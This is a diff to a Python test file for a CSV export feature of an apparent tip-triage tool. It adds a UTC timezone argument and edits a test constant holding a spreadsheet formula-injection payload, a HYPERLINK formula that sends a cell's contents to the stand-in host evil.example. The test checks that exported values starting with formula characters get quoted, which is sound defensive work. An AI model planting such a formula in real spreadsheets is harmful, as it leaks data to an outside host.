@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import UTC
 
 import pytest
 from click.testing import CliRunner
@@ -26,7 +27,8 @@ from tests.conftest import REDIS_URL
 from tests.triage.coordinators import CoordinatorActor
 from triage.export import export_tip, package_csv
 
-HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+# A place a spreadsheet would run, naming a real place so the interview takes it at once.
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"成都火车北站")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -59,6 +61,7 @@ def test_the_package_csv_quotes_formulas_and_keeps_the_phone_text(hostile_tip, e
             report=get_report(session=session, ref=hostile_tip),
             coordinator=find_coordinator(session=session, name="alice"),
             cipher=cipher,
+            tz=UTC,
             include_identity=True,
             reason="police asked",
         )
